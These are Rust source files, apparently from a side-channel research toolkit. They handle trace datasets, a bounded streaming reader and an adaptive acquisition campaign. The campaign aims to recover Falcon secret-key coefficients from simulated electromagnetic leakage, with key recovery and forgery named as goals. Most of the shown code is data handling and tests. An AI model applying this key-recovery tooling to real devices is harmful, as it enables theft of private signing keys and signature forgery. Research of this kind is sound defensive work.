    pub(crate) fn knowns_columnar(&self) -> &[u64] {
        &self.knowns
    }

    /// The columnar sample storage (`[target][occ][step][trace]`), for
    /// the v2 serialiser.
    pub(crate) fn points_columnar(&self) -> &[f32] {
        &self.points
    }

    /// Appends the traces of `other` to this dataset. Both must share the
    /// ring degree and the exact target list (batch-wise accumulation in
    /// adaptive campaigns). Columnar merge: each column is the
    /// concatenation of the two source columns.
    ///
    /// # Errors
    ///
    /// Returns [`Error::DatasetMismatch`] when the shapes differ.
    pub fn append(&mut self, other: &Dataset) -> Result<()> {
        if self.n != other.n {
            return Err(Error::DatasetMismatch(format!("ring degree {} vs {}", self.n, other.n)));
        }
        if self.targets != other.targets {
            return Err(Error::DatasetMismatch(format!(
                "target lists differ ({:?} vs {:?})",
                self.targets, other.targets
            )));
        }
        let traces = self.traces + other.traces;
        let mut knowns = Vec::with_capacity(self.knowns.len() + other.knowns.len());
        for (a, b) in self
            .knowns
            .chunks_exact(self.traces.max(1))
            .zip(other.knowns.chunks_exact(other.traces.max(1)))
        {
            knowns.extend_from_slice(a);
            knowns.extend_from_slice(b);
        }
        let mut points = Vec::with_capacity(self.points.len() + other.points.len());
        for (a, b) in self
            .points
            .chunks_exact(self.traces.max(1))
            .zip(other.points.chunks_exact(other.traces.max(1)))
        {
            points.extend_from_slice(a);
            points.extend_from_slice(b);
        }
        // Zero-trace sides contribute empty columns; rebuild explicitly
        // because chunks_exact(1) over an empty buffer yields nothing.
        if self.traces == 0 {
            self.knowns = other.knowns.clone();
            self.points = other.points.clone();
        } else if other.traces > 0 {
            self.knowns = knowns;
            self.points = points;
        }
        self.traces = traces;
        Ok(())
    }

    /// Extracts the sub-dataset covering only `subset` of the targets
    /// (same traces, fewer columns). In the columnar layout each target's
    /// block is contiguous, so this is a handful of bulk copies.
    ///
    /// # Errors
    ///
    /// Returns [`Error::TargetNotInDataset`] when a requested target is
    /// not part of this dataset.
    pub fn select_targets(&self, subset: &[usize]) -> Result<Dataset> {
        let pos: Vec<usize> = subset
            .iter()
            .map(|&t| self.try_target_pos(t).ok_or(Error::TargetNotInDataset { target: t }))
            .collect::<Result<_>>()?;
        let kblock = 2 * self.traces;
        let pblock = POINTS_PER_TARGET * self.traces;
        let mut knowns = Vec::with_capacity(subset.len() * kblock);
        let mut points = Vec::with_capacity(subset.len() * pblock);
        for &ti in &pos {
            knowns.extend_from_slice(&self.knowns[ti * kblock..(ti + 1) * kblock]);
            points.extend_from_slice(&self.points[ti * pblock..(ti + 1) * pblock]);
        }
        Ok(Dataset { n: self.n, targets: subset.to_vec(), traces: self.traces, knowns, points })
    }

    /// An empty dataset (zero traces) for the given degree and targets —
    /// the identity for [`Dataset::append`].
    ///
    /// # Errors
    ///
    /// Returns a typed error on a bad degree or out-of-range target.
    pub fn empty(n: usize, targets: &[usize]) -> Result<Dataset> {
        Dataset::try_from_columnar_parts(n, targets.to_vec(), 0, Vec::new(), Vec::new())
    }

    /// Mutable access to the flat columnar sample storage — every
    /// consecutive `traces()` values form one `(target, occ, step)`
    /// column (screening's outlier winsorisation rewrites columns in
    /// place).
    pub(crate) fn points_mut(&mut self) -> &mut [f32] {
        &mut self.points
    }

    /// Restricts the dataset to its first `n_traces` traces (cheap way to
    /// study trace-count sweeps on one acquisition): every column is
    /// truncated to its prefix.
    pub fn truncated(&self, n_traces: usize) -> Dataset {
        let keep = n_traces.min(self.traces);
        let gather_prefix = |src: &[f32]| -> Vec<f32> {
            src.chunks_exact(self.traces.max(1)).flat_map(|col| &col[..keep]).copied().collect()
        };
        let knowns: Vec<u64> = self
            .knowns
            .chunks_exact(self.traces.max(1))
            .flat_map(|col| &col[..keep])
            .copied()
            .collect();
        Dataset {
            n: self.n,
            targets: self.targets.clone(),
            traces: keep,
            knowns,
            points: gather_prefix(&self.points),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use falcon_emsim::{LeakageModel, MeasurementChain, Scope};
    use falcon_sig::{KeyPair, LogN};

    fn device(noise: f64) -> Device {
        let mut rng = Prng::from_seed(b"acquire test key");
        let kp = KeyPair::generate(LogN::new(3).unwrap(), &mut rng);
        let chain = MeasurementChain {
            model: LeakageModel::hamming_weight(1.0, noise),
            lowpass: 0.0,
            scope: Scope { enabled: false, ..Default::default() },
            ..Default::default()
        };
        Device::new(kp.into_parts().0, chain, b"acquire bench")
    }

    #[test]
    fn dataset_shapes() {
        let mut d = device(1.0);
        let mut mrng = Prng::from_seed(b"msgs");
        let ds = Dataset::collect(&mut d, &[0, 3, 7], 10, &mut mrng);
        assert_eq!(ds.traces(), 10);
        assert_eq!(ds.targets(), &[0, 3, 7]);
        assert_eq!(ds.window(0, 3).len(), POINTS_PER_TARGET);
        assert_eq!(ds.sample_column(7, 1, StepKind::SignXor).len(), 10);
        let t = ds.truncated(4);
        assert_eq!(t.traces(), 4);
        assert_eq!(t.sample(3, 0, 0, StepKind::Pack), ds.sample(3, 0, 0, StepKind::Pack));
    }

    #[test]
    fn columns_are_borrowed_slices_into_the_dataset_buffer() {
        // Pointer-provenance check of the zero-copy contract: the slices
        // returned by the column accessors must lie inside the dataset's
        // own columnar storage, not in a fresh allocation.
        let mut d = device(1.0);
        let mut mrng = Prng::from_seed(b"provenance msgs");
        let ds = Dataset::collect(&mut d, &[1, 4], 16, &mut mrng);
        let points = ds.points_columnar().as_ptr_range();
        let knowns = ds.knowns_columnar().as_ptr_range();
        for &target in &[1usize, 4] {
            for occ in 0..2 {
                let kc = ds.known_column(target, occ);
                assert!(knowns.contains(&kc.as_ptr()), "known column must borrow from the buffer");
                assert_eq!(kc.len(), ds.traces());
                for step in StepKind::ALL {
                    let sc = ds.sample_column(target, occ, step);
                    assert!(
                        points.contains(&sc.as_ptr()),
                        "sample column must borrow from the buffer"
                    );
                    assert_eq!(sc.len(), ds.traces());
                }
            }
        }
        // Adjacent steps of one occurrence are adjacent columns: the
        // tile kernel's cache-density assumption.
        let a = ds.sample_column(1, 0, StepKind::ALL[0]).as_ptr() as usize;
        let b = ds.sample_column(1, 0, StepKind::ALL[1]).as_ptr() as usize;
        assert_eq!(b - a, ds.traces() * core::mem::size_of::<f32>());
    }

    #[test]
    fn row_major_and_columnar_constructors_agree() {
        let mut d = device(0.5);
        let mut mrng = Prng::from_seed(b"ctor msgs");
        let ds = Dataset::collect(&mut d, &[2, 6], 7, &mut mrng);
        // Rebuild row-major from accessors, then re-construct.
        let mut knowns = Vec::new();
        let mut points = Vec::new();
        for trace in 0..ds.traces() {
            for &t in ds.targets() {
                for occ in 0..2 {
                    knowns.push(ds.known(trace, t, occ));
                }
                points.extend(ds.window(trace, t));
            }
        }
        let rm =
            Dataset::try_from_raw_parts(ds.n(), ds.targets().to_vec(), ds.traces(), knowns, points)
                .unwrap();
        assert_eq!(rm.knowns_columnar(), ds.knowns_columnar());
        assert_eq!(rm.points_columnar(), ds.points_columnar());
    }

    #[test]
    fn append_and_select_preserve_columns() {
        let mut d = device(1.0);
        let mut mrng = Prng::from_seed(b"append msgs");
        let a = Dataset::collect(&mut d, &[0, 5], 6, &mut mrng);
        let b = Dataset::collect(&mut d, &[0, 5], 9, &mut mrng);
        let mut acc = Dataset::empty(8, &[0, 5]).unwrap();
        acc.append(&a).unwrap();
        acc.append(&b).unwrap();
        assert_eq!(acc.traces(), 15);
        for &t in &[0usize, 5] {
            for occ in 0..2 {
                for step in StepKind::ALL {
                    let col = acc.sample_column(t, occ, step);
                    assert_eq!(&col[..6], a.sample_column(t, occ, step));
                    assert_eq!(&col[6..], b.sample_column(t, occ, step));
                }
                let kcol = acc.known_column(t, occ);
                assert_eq!(&kcol[..6], a.known_column(t, occ));
                assert_eq!(&kcol[6..], b.known_column(t, occ));
            }
        }
        let sel = acc.select_targets(&[5]).unwrap();
        assert_eq!(sel.targets(), &[5]);
        for occ in 0..2 {
            assert_eq!(sel.known_column(5, occ), acc.known_column(5, occ));
            for step in StepKind::ALL {
                assert_eq!(sel.sample_column(5, occ, step), acc.sample_column(5, occ, step));
            }
        }
    }

    #[test]
    fn noiseless_samples_match_ground_truth_model() {
        use crate::model::{hyp_exact, KnownOperand};
        let mut d = device(0.0);
        let truth = d.signing_key().f_fft().to_vec();
        let mut mrng = Prng::from_seed(b"gt");
        let ds = Dataset::collect(&mut d, &[1, 5], 5, &mut mrng);
        for trace in 0..5 {
            for &target in &[1usize, 5] {
                for occ in 0..2 {
                    let known = KnownOperand::new(ds.known(trace, target, occ));
                    for step in StepKind::ALL {
                        let want = hyp_exact(truth[target].to_bits(), &known, step);
                        let got = ds.sample(trace, target, occ, step) as f64;
                        assert_eq!(got, want, "trace {trace} target {target} occ {occ} {step:?}");
                    }
                }
            }
        }
    }
}
