//! Out-of-core streaming reader for the columnar v2 dataset format.
//!
//! A [`StreamedDataset`] is a [`ColumnSource`] over an `FDNDSET\x02`
//! file: it holds only the parsed header, and materialises one
//! target's column set at a time by reading the target's two
//! contiguous byte ranges (knowns, then samples) through a bounded
//! prefetch ring. A dedicated reader thread fills the ring with
//! fixed-size chunks in file order while the consumer decodes them, so
//! I/O overlaps decoding; the channel bound caps the bytes staged in
//! flight at `depth × chunk_bytes` regardless of file size.
//!
//! # Determinism
//!
//! Chunks are read, sent, and decoded strictly in file order, and the
//! decoded block is byte-identical to the resident load of the same
//! file — the reader thread only moves bytes, it never reorders or
//! merges floats. Every analysis downstream of [`ColumnSource`]
//! therefore produces bit-identical results over a `StreamedDataset`
//! and the [`Dataset`](crate::Dataset) it was written from; the
//! determinism suite pins campaign → key → forgery equality across
//! ring depths and thread counts.
//!
//! # Memory accounting
//!
//! `stream.ring_capacity_bytes` (gauge) records the configured bound,
//! `stream.ring_peak_bytes` (gauge) the high-water mark of bytes
//! actually staged in the ring, and `stream.bytes_read` /
//! `stream.chunks_read` / `stream.blocks_fetched` (counters) the I/O
//! volume. Tests assert `peak ≤ capacity` while streaming files much
//! larger than the ring.

use crate::error::{Error, Result};
use crate::io::{read_dataset_header, DatasetHeader, VERSION_V2};
use crate::source::{ColumnSource, TargetBlock};
use std::borrow::Cow;
use std::fs::File;
use std::io::{BufReader, Read, Seek, SeekFrom};
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::mpsc::{sync_channel, SyncSender};
use std::sync::Arc;

/// Smallest permitted chunk: big enough that the per-chunk channel
/// rendezvous stays negligible against the memcpy it covers.
pub const MIN_CHUNK_BYTES: usize = 512;

/// Process-wide high-water mark of bytes staged in any prefetch ring,
/// mirrored to the `stream.ring_peak_bytes` gauge (which is
/// last-write-wins and so cannot track a max by itself).
static RING_PEAK: AtomicU64 = AtomicU64::new(0);

/// Resets the process-wide ring high-water mark (and its gauge), so a
/// test can bound the peak of one specific streaming pass.
pub fn reset_ring_peak() {
    RING_PEAK.store(0, Ordering::SeqCst);
    crate::obs::gauge("stream.ring_peak_bytes").set(0.0);
}

fn note_staged(in_ring: &AtomicU64, len: u64) {
    let now = in_ring.fetch_add(len, Ordering::SeqCst) + len;
    let mut peak = RING_PEAK.load(Ordering::SeqCst);
    while now > peak {
        match RING_PEAK.compare_exchange(peak, now, Ordering::SeqCst, Ordering::SeqCst) {
            Ok(_) => break,
            Err(cur) => peak = cur,
        }
    }
    crate::obs::gauge("stream.ring_peak_bytes").set(RING_PEAK.load(Ordering::SeqCst) as f64);
}

/// Geometry of the prefetch ring: `depth` chunks of `chunk_bytes`
/// each may be staged between the reader thread and the decoder, so
/// peak staging memory per block fetch is `depth × chunk_bytes` —
/// independent of file size.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct RingConfig {
    /// Bytes per chunk. Must be a multiple of 8 (so chunk boundaries
    /// always fall on u64/f32 element boundaries within a payload
    /// range) and at least [`MIN_CHUNK_BYTES`].
    pub chunk_bytes: usize,
    /// Chunks in flight, including the one being decoded. At least 2
    /// (one decoding, one prefetching).
    pub depth: usize,
}

impl Default for RingConfig {
    fn default() -> Self {
        // 1 MiB chunks, 4 deep: 4 MiB of staging regardless of
        // archive size, large enough to keep a spinning disk busy.
        RingConfig { chunk_bytes: 1 << 20, depth: 4 }
    }
}

impl RingConfig {
    /// Validates the geometry.
    ///
    /// # Errors
    ///
    /// Returns [`Error::InvalidData`] for a chunk size that is too
    /// small or misaligned, or a ring shallower than 2.
    pub fn validate(&self) -> Result<()> {
        if self.chunk_bytes < MIN_CHUNK_BYTES || !self.chunk_bytes.is_multiple_of(8) {
            return Err(Error::invalid(format!(
                "ring chunk_bytes must be a multiple of 8 and >= {MIN_CHUNK_BYTES}, got {}",
                self.chunk_bytes
            )));
        }
        if self.depth < 2 {
            return Err(Error::invalid(format!("ring depth must be >= 2, got {}", self.depth)));
        }
        Ok(())
    }

    /// The staging-memory bound this geometry guarantees.
    pub fn capacity_bytes(&self) -> u64 {
        self.chunk_bytes as u64 * self.depth as u64
    }
}

/// A [`ColumnSource`] over an on-disk `FDNDSET\x02` archive, holding
/// only the header resident and streaming one target's columns at a
/// time through a bounded prefetch ring.
#[derive(Debug)]
pub struct StreamedDataset {
    path: PathBuf,
    header: DatasetHeader,
    ring: RingConfig,
}

impl StreamedDataset {
    /// Opens an archive for streaming: validates the ring geometry,
    /// parses the header (payload untouched), and checks the file
    /// length against the header's byte geometry so truncation is
    /// caught at open rather than mid-campaign.
    ///
    /// # Errors
    ///
    /// Returns [`Error::InvalidData`] for v1 archives (row-major
    /// payloads have no contiguous per-target region — convert with
    /// `falcon_ingest convert` first), for a length mismatch, or a bad
    /// ring; plus everything [`read_dataset_header`] returns.
    pub fn open(path: impl AsRef<Path>, ring: RingConfig) -> Result<Self> {
        ring.validate()?;
        let path = path.as_ref().to_path_buf();
        let mut r = BufReader::new(File::open(&path)?);
        let header = read_dataset_header(&mut r)?;
        if header.version != VERSION_V2 {
            return Err(Error::invalid(
                "v1 row-major archives cannot stream; convert to v2 with `falcon_ingest convert`",
            ));
        }
        drop(r);
        let actual = std::fs::metadata(&path)?.len();
        if actual != header.file_len() {
            return Err(Error::invalid(format!(
                "archive length mismatch: header implies {} bytes, file has {actual}",
                header.file_len()
            )));
        }
        crate::obs::gauge("stream.ring_capacity_bytes").set(ring.capacity_bytes() as f64);
        Ok(StreamedDataset { path, header, ring })
    }

    /// Opens with the default ring geometry.
    ///
    /// # Errors
    ///
    /// See [`StreamedDataset::open`].
    pub fn open_default(path: impl AsRef<Path>) -> Result<Self> {
        Self::open(path, RingConfig::default())
    }

    /// The archive path.
    pub fn path(&self) -> &Path {
        &self.path
    }

    /// The parsed header (resident metadata).
    pub fn header(&self) -> &DatasetHeader {
        &self.header
    }

    /// The ring geometry.
    pub fn ring(&self) -> RingConfig {
        self.ring
    }

    /// Streams the byte ranges of one target (knowns then points)
    /// through the ring, decoding into owned column buffers.
    fn fetch(&self, ti: usize) -> Result<(Vec<u64>, Vec<f32>)> {
        let (koff, klen) = self.header.target_knowns_range(ti);
        let (poff, plen) = self.header.target_points_range(ti);
        let chunk = self.ring.chunk_bytes;
        // Staged chunks live in three places: one the reader has
        // allocated and not yet handed over, up to capacity sitting in
        // the channel, and one the consumer is decoding. Capacity
        // depth-2 therefore caps the total at exactly depth chunks
        // (depth 2 degenerates to a rendezvous channel: one decoding,
        // one prefetching).
        let (tx, rx) = sync_channel::<std::io::Result<Vec<u8>>>(self.ring.depth - 2);
        let in_ring = Arc::new(AtomicU64::new(0));
        let staged = Arc::clone(&in_ring);
        let path = self.path.clone();
        let reader = std::thread::spawn(move || {
            let run = |tx: &SyncSender<std::io::Result<Vec<u8>>>| -> std::io::Result<()> {
                let mut f = File::open(&path)?;
                for &(off, len) in &[(koff, klen), (poff, plen)] {
                    f.seek(SeekFrom::Start(off))?;
                    let mut left = len;
                    while left > 0 {
                        let take = left.min(chunk as u64) as usize;
                        let mut buf = vec![0u8; take];
                        // Counted from allocation, not from hand-over:
                        // the gauge bounds real staging memory.
                        note_staged(&staged, take as u64);
                        f.read_exact(&mut buf)?;
                        // A send error means the consumer hung up
                        // (early exit); stop reading quietly.
                        if tx.send(Ok(buf)).is_err() {
                            return Ok(());
                        }
                        left -= take as u64;
                    }
                }
                Ok(())
            };
            if let Err(e) = run(&tx) {
                // Forward the failure; the consumer may already be
                // gone, in which case nobody cares.
                let _ = tx.send(Err(e));
            }
        });
        let chunks_read = crate::obs::counter("stream.chunks_read");
        let bytes_read = crate::obs::counter("stream.bytes_read");
        let mut knowns = Vec::with_capacity((klen / 8) as usize);
        let mut points = Vec::with_capacity((plen / 4) as usize);
        let mut result = Ok(());
        // Decode chunks strictly in arrival (= file) order. The knowns
        // range length is a multiple of chunk_bytes' alignment (both
        // are multiples of 8), so the range boundary always coincides
        // with a chunk boundary and each chunk decodes wholly as u64s
        // or wholly as f32s.
        for received in rx.iter() {
            match received {
                Ok(buf) => {
                    if (knowns.len() as u64) < klen / 8 {
                        knowns.extend(
                            buf.chunks_exact(8)
                                .map(|c| u64::from_le_bytes(c.try_into().expect("8 bytes"))),
                        );
                    } else {
                        points.extend(
                            buf.chunks_exact(4)
                                .map(|c| f32::from_le_bytes(c.try_into().expect("4 bytes"))),
                        );
                    }
                    chunks_read.incr();
                    bytes_read.add(buf.len() as u64);
                    in_ring.fetch_sub(buf.len() as u64, Ordering::SeqCst);
                }
                Err(e) => {
                    result = Err(Error::from(e));
                    break;
                }
            }
        }
        drop(rx);
        reader.join().map_err(|payload| crate::exec::panicked(0, payload))?;
        result?;
        crate::obs::counter("stream.blocks_fetched").incr();
        Ok((knowns, points))
    }
}

impl ColumnSource for StreamedDataset {
    fn n(&self) -> usize {
        self.header.n
    }

    fn targets(&self) -> &[usize] {
        &self.header.targets
    }

    fn traces(&self) -> usize {
        self.header.traces
    }

    fn target_block(&self, target: usize) -> Result<TargetBlock<'_>> {
        let ti = self.header.target_slot(target).ok_or(Error::TargetNotInDataset { target })?;
        let (knowns, points) = self.fetch(ti)?;
        TargetBlock::new(target, self.header.traces, Cow::Owned(knowns), Cow::Owned(points))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::acquire::Dataset;
    use crate::io::write_dataset;
    use falcon_emsim::{Device, LeakageModel, MeasurementChain, Scope, StepKind};
    use falcon_sig::rng::Prng;
    use falcon_sig::{KeyPair, LogN};

    fn sample_dataset(traces: usize) -> Dataset {
        let mut rng = Prng::from_seed(b"stream test key");
        let kp = KeyPair::generate(LogN::new(3).unwrap(), &mut rng);
        let chain = MeasurementChain {
            model: LeakageModel::hamming_weight(1.0, 1.0),
            lowpass: 0.0,
            scope: Scope { enabled: false, ..Default::default() },
            ..Default::default()
        };
        let mut dev = Device::new(kp.into_parts().0, chain, b"stream bench");
        let mut msgs = Prng::from_seed(b"stream msgs");
        Dataset::collect(&mut dev, &[0, 2, 5], traces, &mut msgs)
    }

    fn write_tmp(ds: &Dataset, name: &str) -> PathBuf {
        let path =
            std::env::temp_dir().join(format!("falcon-stream-{name}-{}", std::process::id()));
        crate::io::atomic_write(&path, |w| write_dataset(ds, w)).unwrap();
        path
    }

    #[test]
    fn streamed_blocks_are_byte_identical_to_resident() {
        let ds = sample_dataset(64);
        let path = write_tmp(&ds, "ident");
        for ring in [
            RingConfig { chunk_bytes: MIN_CHUNK_BYTES, depth: 2 },
            RingConfig { chunk_bytes: 1024, depth: 3 },
            RingConfig::default(),
        ] {
            let sd = StreamedDataset::open(&path, ring).unwrap();
            assert_eq!(ColumnSource::n(&sd), ds.n());
            assert_eq!(ColumnSource::targets(&sd), ds.targets());
            assert_eq!(ColumnSource::traces(&sd), ds.traces());
            for &t in ds.targets() {
                let sb = sd.target_block(t).unwrap();
                let rb = ColumnSource::target_block(&ds, t).unwrap();
                for occ in 0..2 {
                    assert_eq!(sb.known_column(occ), rb.known_column(occ));
                    for step in StepKind::ALL {
                        let s: Vec<u32> =
                            sb.sample_column(occ, step).iter().map(|v| v.to_bits()).collect();
                        let r: Vec<u32> =
                            rb.sample_column(occ, step).iter().map(|v| v.to_bits()).collect();
                        assert_eq!(s, r);
                    }
                }
            }
        }
        std::fs::remove_file(&path).unwrap();
    }

    #[test]
    fn ring_peak_respects_the_configured_bound() {
        let ds = sample_dataset(256);
        let path = write_tmp(&ds, "peak");
        let ring = RingConfig { chunk_bytes: MIN_CHUNK_BYTES, depth: 2 };
        let sd = StreamedDataset::open(&path, ring).unwrap();
        // The file dwarfs the ring: streaming must stage at most
        // depth × chunk_bytes even so.
        assert!(std::fs::metadata(&path).unwrap().len() > ring.capacity_bytes() * 4);
        reset_ring_peak();
        for &t in ColumnSource::targets(&sd).to_vec().iter() {
            sd.target_block(t).unwrap();
        }
        let peak = crate::obs::gauge("stream.ring_peak_bytes").get();
        assert!(peak > 0.0, "streaming staged nothing?");
        assert!(
            peak <= ring.capacity_bytes() as f64,
            "ring peak {peak} exceeds capacity {}",
            ring.capacity_bytes()
        );
        std::fs::remove_file(&path).unwrap();
    }

    #[test]
    fn bad_ring_geometry_is_rejected() {
        assert!(RingConfig { chunk_bytes: 4, depth: 2 }.validate().is_err());
        assert!(RingConfig { chunk_bytes: 1001, depth: 2 }.validate().is_err());
        assert!(RingConfig { chunk_bytes: 1 << 20, depth: 1 }.validate().is_err());
        assert!(RingConfig::default().validate().is_ok());
    }

    #[test]
    fn missing_target_is_typed() {
        let ds = sample_dataset(8);
        let path = write_tmp(&ds, "missing");
        let sd = StreamedDataset::open_default(&path).unwrap();
        assert!(matches!(sd.target_block(7), Err(Error::TargetNotInDataset { target: 7 })));
        std::fs::remove_file(&path).unwrap();
    }

    #[test]
    fn truncation_at_every_chunk_boundary_is_typed() {
        // Fuzz-style sweep: cut the archive at every chunk boundary
        // (and a few straddling offsets) and demand a typed error from
        // open() — never a panic, never a silent short read.
        let ds = sample_dataset(16);
        let mut buf = Vec::new();
        write_dataset(&ds, &mut buf).unwrap();
        let ring = RingConfig { chunk_bytes: MIN_CHUNK_BYTES, depth: 2 };
        let path = std::env::temp_dir().join(format!("falcon-stream-trunc-{}", std::process::id()));
        let mut cuts: Vec<usize> = (0..buf.len()).step_by(ring.chunk_bytes).collect();
        cuts.extend([1, 7, 8, 31, buf.len() - 1]);
        for cut in cuts {
            std::fs::write(&path, &buf[..cut]).unwrap();
            let r = StreamedDataset::open(&path, ring);
            match r {
                Err(Error::Io(_)) | Err(Error::InvalidData(_)) => {}
                other => panic!("cut at {cut}/{}: expected typed error, got {other:?}", buf.len()),
            }
        }
        // And the intact file streams fine.
        std::fs::write(&path, &buf).unwrap();
        let sd = StreamedDataset::open(&path, ring).unwrap();
        for &t in ds.targets() {
            sd.target_block(t).unwrap();
        }
        std::fs::remove_file(&path).unwrap();
    }

    #[test]
    fn mid_stream_truncation_surfaces_as_io_error() {
        // open() length-checks the file, but a file shrinking *after*
        // open (or a racing writer) must still fail typed, not panic:
        // shrink behind the source's back and fetch.
        let ds = sample_dataset(32);
        let path = write_tmp(&ds, "shrink");
        let ring = RingConfig { chunk_bytes: MIN_CHUNK_BYTES, depth: 2 };
        let sd = StreamedDataset::open(&path, ring).unwrap();
        let full = std::fs::metadata(&path).unwrap().len();
        let f = std::fs::OpenOptions::new().write(true).open(&path).unwrap();
        f.set_len(full / 2).unwrap();
        drop(f);
        let last = *ds.targets().last().unwrap();
        match sd.target_block(last) {
            Err(Error::Io(_)) => {}
            other => panic!("expected Io error after shrink, got {other:?}"),
        }
        std::fs::remove_file(&path).unwrap();
    }

    #[test]
    fn v1_archives_refuse_to_stream() {
        let ds = sample_dataset(4);
        // Hand-roll a v1 header over an empty payload: version gate
        // fires before any payload read.
        let mut buf = Vec::new();
        buf.extend_from_slice(b"FDNDSET\x01");
        buf.extend_from_slice(&(ds.n() as u64).to_le_bytes());
        buf.extend_from_slice(&1u64.to_le_bytes());
        buf.extend_from_slice(&0u64.to_le_bytes());
        buf.extend_from_slice(&0u64.to_le_bytes());
        let path = std::env::temp_dir().join(format!("falcon-stream-v1-{}", std::process::id()));
        std::fs::write(&path, &buf).unwrap();
        match StreamedDataset::open_default(&path) {
            Err(Error::InvalidData(msg)) => assert!(msg.contains("convert"), "{msg}"),
            other => panic!("expected InvalidData, got {other:?}"),
        }
        std::fs::remove_file(&path).unwrap();
    }
}
