//! Adaptive acquisition campaigns with convergence tracking and
//! checkpoint/resume.
//!
//! The fixed-trace-count experiments elsewhere in this crate answer "how
//! many traces does the attack need"; a real adversary runs the question
//! in reverse: acquire in batches, watch each coefficient's winning
//! guess, and stop spending traces on a coefficient the moment its
//! winner clears the 99.99 % confidence threshold (see
//! [`crate::confidence`]) and stays put. A [`Campaign`] drives exactly
//! that loop on top of the fault-tolerant
//! [`Dataset::collect_screened`](crate::screen) acquisition, hands back
//! a typed [`CampaignReport`] (partial results included when the trace
//! budget runs out), and can checkpoint its complete state — device
//! stream positions, accumulated data, convergence trackers — to disk
//! so a killed campaign resumes bit-for-bit where it stopped.

use crate::acquire::Dataset;
use crate::attack::{coefficient_confidence, recover_coefficient, AttackConfig};
use crate::confidence;
use crate::error::{Error, Result};
use crate::io;
use crate::obs;
use crate::screen::{AcquisitionStats, ScreenConfig};
use crate::source::ColumnSource;
use falcon_emsim::Device;
use falcon_sig::rng::Prng;
use std::io::{Read, Write};
use std::path::Path;

const CKPT_MAGIC: &[u8; 7] = b"FDNCKPT";
const CKPT_VERSION: u8 = 1;

/// Campaign policy: batching, budget, convergence rule, screening.
#[derive(Debug, Clone, PartialEq)]
pub struct CampaignConfig {
    /// Targeted flat `FFT(f)` indices; empty means every index `0..n`.
    pub targets: Vec<usize>,
    /// Captures requested from the device per batch.
    pub batch_size: usize,
    /// Total capture budget (requested captures, not kept traces).
    pub max_traces: usize,
    /// A winner converges when its confidence exceeds `margin` times the
    /// 99.99 % threshold for the accumulated trace count.
    pub margin: f64,
    /// Consecutive batch evaluations the winner must clear the margin
    /// with unchanged bits before the coefficient is declared recovered.
    pub stable_batches: usize,
    /// Extend-and-prune parameters for the per-batch re-attack.
    pub attack: AttackConfig,
    /// Trace screening; `None` keeps every full-length capture
    /// unscreened (the robustness baseline).
    pub screen: Option<ScreenConfig>,
}

impl Default for CampaignConfig {
    fn default() -> Self {
        CampaignConfig {
            targets: Vec::new(),
            batch_size: 100,
            max_traces: 5000,
            margin: 1.2,
            stable_batches: 2,
            attack: AttackConfig::default(),
            screen: Some(ScreenConfig::default()),
        }
    }
}

/// Final state of one targeted coefficient.
#[derive(Debug, Clone, Copy, PartialEq)]
pub enum CoefficientStatus {
    /// The winner cleared the confidence margin with stable bits.
    Recovered {
        /// Targeted flat index.
        target: usize,
        /// Recovered 64-bit coefficient of `FFT(f)`.
        bits: u64,
        /// Exact-model confidence of the winner at convergence.
        confidence: f64,
        /// Kept traces accumulated when the coefficient converged.
        traces: usize,
    },
    /// The budget ran out first; the current best guess is reported.
    Unconverged {
        /// Targeted flat index.
        target: usize,
        /// Best guess so far (`0` when never evaluated).
        best_bits: u64,
        /// Its latest exact-model confidence.
        confidence: f64,
        /// Kept traces accumulated for this coefficient.
        traces: usize,
    },
}

impl CoefficientStatus {
    /// The targeted index.
    pub fn target(&self) -> usize {
        match *self {
            CoefficientStatus::Recovered { target, .. }
            | CoefficientStatus::Unconverged { target, .. } => target,
        }
    }

    /// The (best) recovered bits.
    pub fn bits(&self) -> u64 {
        match *self {
            CoefficientStatus::Recovered { bits, .. } => bits,
            CoefficientStatus::Unconverged { best_bits, .. } => best_bits,
        }
    }

    /// Whether the coefficient converged.
    pub fn is_recovered(&self) -> bool {
        matches!(self, CoefficientStatus::Recovered { .. })
    }
}

/// The (possibly partial) outcome of a campaign.
#[derive(Debug, Clone, PartialEq)]
pub struct CampaignReport {
    /// Ring degree.
    pub n: usize,
    /// Per-coefficient outcomes, in target order.
    pub statuses: Vec<CoefficientStatus>,
    /// Captures requested from the device over the whole campaign.
    pub traces_requested: usize,
    /// Acquisition accounting across every batch.
    pub stats: AcquisitionStats,
}

impl CampaignReport {
    /// True when every targeted coefficient converged.
    pub fn is_complete(&self) -> bool {
        self.statuses.iter().all(CoefficientStatus::is_recovered)
    }

    /// Number of recovered coefficients.
    pub fn recovered_count(&self) -> usize {
        self.statuses.iter().filter(|s| s.is_recovered()).count()
    }

    /// The full `FFT(f)` bit vector when the campaign targeted all of
    /// `0..n` and every coefficient converged — the input to
    /// [`crate::recover::key_from_fft_bits`]. `None` otherwise.
    pub fn recovered_bits(&self) -> Option<Vec<u64>> {
        if !self.is_complete() || self.statuses.len() != self.n {
            return None;
        }
        let mut bits = vec![0u64; self.n];
        for s in &self.statuses {
            if s.target() >= self.n {
                return None;
            }
            bits[s.target()] = s.bits();
        }
        Some(bits)
    }
}

/// Convergence tracking for one coefficient.
#[derive(Debug, Clone)]
struct TargetState {
    target: usize,
    /// Accumulated single-target dataset.
    data: Dataset,
    /// Winner of the previous evaluation.
    last_bits: Option<u64>,
    /// Latest exact-model confidence of the winner.
    confidence: f64,
    /// Consecutive evaluations the winner cleared the margin unchanged.
    stable: usize,
    /// Set once the coefficient converges: (bits, confidence, traces).
    resolved: Option<(u64, f64, usize)>,
}

/// An adaptive, checkpointable acquisition-and-attack campaign.
#[derive(Debug, Clone)]
pub struct Campaign {
    cfg: CampaignConfig,
    n: usize,
    states: Vec<TargetState>,
    traces_requested: usize,
    stats: AcquisitionStats,
}

impl Campaign {
    /// Prepares a campaign against a device of ring degree `n`.
    ///
    /// # Errors
    ///
    /// Returns a typed error when the config is degenerate (zero batch
    /// size, no budget) or a target is out of range.
    pub fn new(n: usize, cfg: CampaignConfig) -> Result<Campaign> {
        if cfg.batch_size == 0 || cfg.max_traces == 0 {
            return Err(Error::Acquisition(
                "campaign needs a nonzero batch size and trace budget".into(),
            ));
        }
        let targets: Vec<usize> =
            if cfg.targets.is_empty() { (0..n).collect() } else { cfg.targets.clone() };
        let states = targets
